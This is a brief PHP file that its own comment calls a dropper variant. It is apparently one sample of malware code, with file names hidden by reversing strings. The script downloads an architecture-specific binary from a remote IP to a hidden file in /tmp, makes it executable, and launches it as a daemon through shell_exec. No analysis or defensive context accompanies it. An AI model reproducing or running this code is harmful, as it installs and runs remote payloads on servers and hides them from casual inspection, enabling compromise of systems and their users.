<?php
// The same dropper with its names spelt backwards and the download done by copy().
$p = strrev('dmkcol./pmt/');
@copy('http://198.51.100.20/b/' . php_uname('m'), $p);
@chmod($p, 0777);
$r = strrev('cexe_llehs');
@shell_exec($p . ' --daemon');
